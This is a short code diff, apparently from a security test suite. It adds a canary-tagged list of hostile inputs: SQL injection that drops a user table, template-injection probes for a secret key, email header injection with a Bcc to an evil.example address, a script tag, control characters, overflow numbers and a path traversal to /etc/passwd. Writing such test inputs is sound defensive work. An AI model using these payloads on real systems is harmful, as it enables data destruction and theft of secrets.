@@ -47,3 +47,16 @@ AROUND = (
     "\\u003cscript\\u003e{}\\u003c/script\\u003e",
 )  # fmt: skip
 ALL = tuple(around.format(run) for around in AROUND for run in RUN)
+
+# What could become part of a statement, a header, a log line, a template or a path.
+CANARY = "zq7canary"
+SCRIPT = f"<script>document.title='{CANARY}'</script>"
+HOSTILE = [
+    f"{CANARY}'; DROP TABLE platform_user; --",
+    f'{CANARY}") OR 1=1 /* {{{{ settings.SECRET_KEY }}}} ${{7*7}} %s %(id)s',
+    f"{CANARY}\r\nBcc: eve@evil.example\r\n\r\n.\r\n\u2028",
+    f"{CANARY}\0\ud7ff\u202e{SCRIPT}",
+    "9" * 5_000,
+    "-1e999",
+    "../../../../etc/passwd",
+]
